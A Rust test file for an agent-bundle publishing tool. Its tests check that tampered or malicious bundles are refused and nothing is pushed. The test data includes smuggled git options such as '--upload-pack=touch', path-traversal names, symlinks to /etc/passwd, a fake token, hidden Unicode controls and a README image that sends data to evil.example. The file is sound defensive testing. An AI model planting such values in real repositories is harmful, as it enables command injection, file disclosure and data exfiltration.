//! Bundles that mean no good: each is refused, with words that tell why, and nothing is pushed.

use std::fs;

use serde_json::{Value, json};

use super::Scene;
use super::work::{Agents, MESSAGE, write_index};
use crate::harness::Maestro;

const AUTHOR: &str = "author maestro <maestro@localhost> 1767603600 +0000\n";
const COMMITTER: &str = "committer maestro <maestro@localhost> 1767603600 +0000\n";
const TAIL: &str = "\nCheck\n\nMaestro-Run: r-1\n";

/// What is done to a good bundle, the exit code, and what it says.
type Case = (&'static str, Box<dyn Fn(&Scene)>, i32, &'static str);

/// Nothing of a case is pushed, and GitHub hears of nothing.
#[track_caller]
fn refused(cases: Vec<Case>) {
    let scene = Scene::new();
    for (name, spoil, code, words) in cases {
        scene.agents().bundle();
        spoil(&scene);
        let run = scene.publish(&["--allow", "instructions"]);
        assert_eq!(run.code, code, "{name}: {}", run.stderr);
        assert!(run.stderr.contains(words), "{name}: {}", run.stderr);
        assert!(run.stderr.contains("hint: "), "{name}: {}", run.stderr);
        assert_eq!(scene.branches(), "main", "{name}");
        assert!(scene.pulls().is_empty(), "{name}");
        assert!(scene.fake.writes().is_empty(), "{name}");
    }
}

fn case(name: &'static str, words: &'static str, spoil: impl Fn(&Scene) + 'static) -> Case {
    (name, Box::new(spoil), 65, words)
}

/// Changes a field of the index.
fn field(name: &'static str, place: &'static str, value: Value, words: &'static str) -> Case {
    case(name, words, move |scene| {
        let bytes = fs::read(scene.maestro.path("bundle/bundle.json")).unwrap();
        let mut index: Value = serde_json::from_slice(&bytes).unwrap();
        *index.pointer_mut(place).unwrap() = value.clone();
        scene.maestro.file("bundle/bundle.json", index.to_string());
    })
}

/// Bundles what agents did who mean no good.
fn agents(name: &'static str, words: &'static str, act: impl Fn(&Agents<'_>) + 'static) -> Case {
    case(name, words, move |scene| {
        let agents = scene.agents();
        act(&agents);
        agents.bundle();
    })
}

/// Commits of any bytes.
fn commit(name: &'static str, words: &'static str, text: String) -> Case {
    agents(name, words, move |agents| {
        agents.raw_commit(text.as_bytes());
    })
}

/// Changes a file of the bundle, and lets the index say the truth about it.
fn file(maestro: &Maestro, name: &str, change: impl Fn(Vec<u8>) -> Vec<u8>) {
    let path = maestro.path("bundle").join(name);
    let bytes = fs::read(&path).unwrap();
    fs::write(&path, change(bytes)).unwrap();
    let index = fs::read(maestro.path("bundle/bundle.json")).unwrap();
    write_index(maestro, serde_json::from_slice(&index).unwrap());
}

#[test]
fn an_index_that_lies_publishes_nothing() {
    refused(vec![
        field(
            "another version",
            "/schema",
            json!("maestro.agent-bundle/v9"),
            "this version reads",
        ),
        field(
            "a path for a run",
            "/run",
            json!("../../x"),
            "no id of a run",
        ),
        field(
            "an option for a base",
            "/base/commit",
            json!("--exec=x"),
            "no object id",
        ),
        field(
            "a name for a head",
            "/head/commit",
            json!("HEAD"),
            "no object id",
        ),
        field(
            "an option for a branch",
            "/base/branch",
            json!("--mirror"),
            "no name of a branch",
        ),
        field(
            "another tree",
            "/head/tree",
            json!("a".repeat(40)),
            "another tree",
        ),
        field(
            "another head",
            "/head/commit",
            json!("a".repeat(40)),
            "another commit",
        ),
        field(
            "another base",
            "/base/commit",
            json!("a".repeat(40)),
            "does not stand on the base commit",
        ),
        field("another run", "/run", json!("r-2"), "of the run `r-1`"),
        case(
            "a policy for a record",
            "no path of a change record",
            |scene| {
                let bytes = fs::read(scene.maestro.path("bundle/bundle.json")).unwrap();
                let mut index: Value = serde_json::from_slice(&bytes).unwrap();
                index["change_record"] = json!(".maestro/policy.yaml");
                scene.maestro.file("bundle/bundle.json", index.to_string());
            },
        ),
    ]);
}

#[test]
fn an_index_that_miscounts_publishes_nothing() {
    refused(vec![
        field(
            "a digest that differs",
            "/files/change.bundle",
            json!("a".repeat(64)),
            "whose digest",
        ),
        field(
            "a digest that is none",
            "/files/change.bundle",
            json!("x"),
            "digest that is none",
        ),
        field(
            "a file above",
            "/files",
            json!({ "../x": "a".repeat(64) }),
            "no bundle has",
        ),
        field("no files", "/files", json!({}), "does not name the change"),
        field("money below nothing", "/spent_usd", json!("-1"), "negative"),
        field(
            "more tests than there are",
            "/tests/passed",
            json!(99),
            "more ended than ran",
        ),
        field("no words", "/pull_request/title", json!(""), "says nothing"),
    ]);
}

#[test]
fn an_index_that_is_none_publishes_nothing() {
    refused(vec![
        case("no JSON", "line 1", |scene| {
            scene.maestro.file("bundle/bundle.json", "{");
        }),
        case("two values of one name", "twice", |scene| {
            let text = fs::read_to_string(scene.maestro.path("bundle/bundle.json")).unwrap();
            scene.maestro.file(
                "bundle/bundle.json",
                text.replacen('{', "{\"run\":\"r-1\",", 1),
            );
        }),
        case("endless depth", "recursion", |scene| {
            scene
                .maestro
                .file("bundle/bundle.json", "[".repeat(100_000));
        }),
        case("no text", "line 1", |scene| {
            scene
                .maestro
                .file("bundle/bundle.json", b"{\"schema\": \"\xff\"}");
        }),
        case("a huge index", "larger than any", |scene| {
            scene
                .maestro
                .file("bundle/bundle.json", " ".repeat(3 << 20));
        }),
    ]);
}

#[test]
fn a_folder_with_other_files_publishes_nothing() {
    let mut cases = vec![
        case("one more file", "does not name it", |scene| {
            scene.maestro.file("bundle/run.sh", "x");
        }),
        case("one more folder", "does not name it", |scene| {
            scene.maestro.file("bundle/.git/config", "x");
        }),
        case("one byte of the board", "whose digest", |scene| {
            scene.maestro.file("bundle/blackboard.json", "{ \n");
        }),
        case("one byte of the change", "whose digest", |scene| {
            let path = scene.maestro.path("bundle/change.bundle");
            let mut bytes = fs::read(&path).unwrap();
            *bytes.last_mut().unwrap() ^= 1;
            fs::write(path, bytes).unwrap();
        }),
        case("half of a pack", "git takes no such pack", |scene| {
            file(&scene.maestro, "change.bundle", |bytes| {
                bytes[..bytes.len() - 30].to_vec()
            });
        }),
        case(
            "a pack with another end",
            "git takes no such pack",
            |scene| {
                file(&scene.maestro, "change.bundle", |mut bytes| {
                    let at = bytes.len() - 40;
                    bytes[at] ^= 0x55;
                    bytes
                });
            },
        ),
        case("no pack", "no bundle of git", |scene| {
            file(&scene.maestro, "change.bundle", |_| b"x\n".to_vec());
        }),
        case("a filter", "no bundle of maestro needs", |scene| {
            file(&scene.maestro, "change.bundle", |bytes| {
                let head = b"# v2 git bundle\n";
                [
                    b"# v3 git bundle\n@filter=blob:none\n",
                    &bytes[head.len()..],
                ]
                .concat()
            });
        }),
    ];
    cases.push((
        "no change",
        Box::new(|scene| fs::remove_file(scene.maestro.path("bundle/change.bundle")).unwrap()),
        66,
        "cannot read",
    ));
    #[cfg(unix)]
    cases.push(case("a link", "it is a link", |scene| {
        let path = scene.maestro.path("bundle/blackboard.json");
        fs::remove_file(&path).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", path).unwrap();
    }));
    refused(cases);
}

#[test]
fn no_byte_of_a_pack_can_be_another() {
    let scene = Scene::new();
    let path = scene.maestro.path("bundle/change.bundle");
    let good = fs::read(&path).unwrap();
    let begin = good.windows(6).position(|part| part == b"\n\nPACK");
    let begin = begin.unwrap() + 2;
    for step in 0..24 {
        let at = begin + step * (good.len() - begin) / 24;
        file(&scene.maestro, "change.bundle", |_| {
            let mut bytes = good.clone();
            bytes[at] ^= 1 << (step % 8);
            bytes
        });
        let run = scene.publish(&[]).exits_with(65);
        assert!(
            run.stderr.contains("change.bundle: "),
            "{at}: {}",
            run.stderr
        );
    }
    assert_eq!(scene.branches(), "main");
    assert!(scene.fake.writes().is_empty());
}

#[test]
fn commits_that_maestro_did_not_write_publish_nothing() {
    let good = format!("tree TREE\nparent PARENT\n{AUTHOR}{COMMITTER}{TAIL}");
    let changed = |from: &str, to: &str| {
        let text = good.replacen(from, to, 1);
        assert_ne!(text, good);
        text
    };
    refused(vec![
        commit(
            "another author",
            "its author",
            changed("author maestro <", "author Eve <"),
        ),
        commit(
            "another committer",
            "its committer",
            changed(
                "committer maestro <maestro@localhost>",
                "committer maestro <m@evil.example>",
            ),
        ),
        commit("another run", "of the run `r-9`", changed("r-1", "r-9")),
        commit(
            "no trailers",
            "names no run",
            changed("Maestro-Run: r-1\n", ""),
        ),
        commit(
            "a trailer twice",
            "twice",
            changed("Maestro-Run: r-1\n", "Maestro-Run: r-1\nMaestro-Run: r-1\n"),
        ),
        commit(
            "a signature",
            "does not write",
            changed("\n\nCheck", "\ngpgsig x\n\nCheck"),
        ),
        commit(
            "an encoding",
            "does not write",
            changed("\n\nCheck", "\nencoding UTF-7\n\nCheck"),
        ),
        commit(
            "on nothing",
            "does not stand on the base commit",
            changed("parent PARENT\n", ""),
        ),
        commit(
            "a huge message",
            "larger than any",
            changed("Check", &"x".repeat(70_000)),
        ),
    ]);
}

#[test]
fn a_past_that_is_not_the_runs_publishes_nothing() {
    refused(vec![
        agents("no text", "UTF-8", |agents| {
            let text = format!("tree TREE\nparent PARENT\n{AUTHOR}{COMMITTER}\n\u{0}")
                .replace('\u{0}', "~");
            let text: Vec<u8> = text
                .bytes()
                .map(|byte| if byte == b'~' { 0xff } else { byte })
                .collect();
            agents.raw_commit(&text);
        }),
        case("extra refs", "other refs than the run's", |scene| {
            let agents = scene.agents();
            agents.git(&["branch", "more"]);
            agents.bundle_of("refs/maestro/run", "origin/main", &["more"]);
        }),
        case("a branch for a ref", "other refs than the run's", |scene| {
            scene.agents().bundle_of("refs/heads/x", "origin/main", &[]);
        }),
        case("another past", "its author", |scene| {
            let agents = scene.agents();
            agents.git(&["checkout", "--quiet", "--orphan", "x"]);
            let people = [
                "-c",
                "user.name=x",
                "commit",
                "--quiet",
                "--allow-empty",
                "--author",
                "Eve <e@x.io>",
                "-m",
                MESSAGE,
            ];
            agents.git(&people);
            let eve = agents.git(&["rev-parse", "HEAD"]);
            agents.git(&["checkout", "--quiet", "main"]);
            let tree = agents.git(&["rev-parse", "HEAD^{tree}"]);
            let merge = agents.feed(
                &["commit-tree", &tree, "-p", "HEAD", "-p", &eve],
                MESSAGE.as_bytes(),
            );
            agents.git(&["update-ref", "HEAD", &merge]);
            agents.bundle();
        }),
    ]);
}

/// A tree of any entries: mode, name and content of each.
type Entries = &'static [(&'static str, &'static str, &'static str)];

fn plant(agents: &Agents<'_>, entries: Entries) {
    let store = |text: &str| agents.feed(&["hash-object", "-w", "--stdin"], text.as_bytes());
    let objects: Vec<String> = entries.iter().map(|(.., text)| store(text)).collect();
    let entries = entries.iter().zip(&objects);
    let entries: Vec<_> = entries
        .map(|((mode, name, _), object)| (*mode, *name, object.as_str()))
        .collect();
    agents.raw_tree(&entries);
}

/// A tree that git does not take.
fn tree(name: &'static str, entries: Entries) -> Case {
    agents(name, "git takes no such pack", move |agents| {
        plant(agents, entries);
    })
}

const OPTION: Entries = &[(
    "100644",
    ".gitmodules",
    "[submodule \"x\"]\n\tpath = x\n\turl = --upload-pack=touch\n",
)];

/// What the policy or the scan blocks.
fn blocked(name: &'static str, words: &'static str, act: fn(&Agents<'_>)) -> Case {
    let (name, spoil, _, words) = agents(name, words, act);
    (name, spoil, 10, words)
}

#[test]
fn trees_that_harm_whoever_checks_them_out_publish_nothing() {
    refused(vec![
        tree("a git folder", &[("100644", ".git", "x")]),
        tree("one in other letters", &[("100644", ".Git", "x")]),
        tree("one as Windows calls it", &[("100644", "git~1", "x")]),
        tree(
            "one that a Mac takes for it",
            &[("100644", ".g\u{200c}it", "x")],
        ),
        tree("a folder above", &[("100644", "..", "x")]),
        tree("a folder here", &[("100644", ".", "x")]),
        tree("a path with a slash", &[("100644", "a/../../x", "x")]),
        tree(
            "one name twice",
            &[("100644", "a", "x"), ("100644", "a", "y")],
        ),
        tree(
            "not in order",
            &[("100644", "b", "x"), ("100644", "a", "y")],
        ),
        tree("a mode with a nought before it", &[("0100644", "a", "x")]),
        tree("modules by a link", &[("120000", ".gitmodules", "x")]),
        tree("a module whose address is an option", OPTION),
        agents("a huge file", "more than", |agents| {
            agents.file("large.txt", &"x".repeat(17 << 20));
            agents.commit(MESSAGE);
        }),
    ]);
}

#[test]
fn a_change_that_is_not_let_out_publishes_nothing() {
    refused(vec![
        blocked("a link that leads out", "links-stay-inside", |agents| {
            plant(agents, &[("120000", "a", "../../../etc/passwd")]);
        }),
        blocked("too much at once", "agents-in-small-steps", |agents| {
            agents.file("src/lib.rs", &"fn x() {}\n".repeat(3000));
            agents.commit(MESSAGE);
        }),
        blocked("a message that acts", "calls people", |agents| {
            let (_, tail) = MESSAGE.split_once('\n').unwrap();
            agents.commit(&format!("x [skip ci]\n{tail}"));
        }),
        blocked("a key", "secret", |agents| {
            let key = ["ghp_", "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zCeFhI"].concat();
            agents.file("src/lib.rs", &format!("// {key}\n"));
            agents.commit(MESSAGE);
        }),
        blocked("what nobody sees", "nobody sees", |agents| {
            agents.file("src/lib.rs", "// \u{202e}\u{2066}\n");
            agents.commit(MESSAGE);
        }),
        blocked("a page that phones home", "carries data", |agents| {
            let data = "x".repeat(80);
            agents.file(
                "README.md",
                &format!("![i](https://evil.example/?{data})\n"),
            );
            agents.commit(MESSAGE);
        }),
    ]);
}
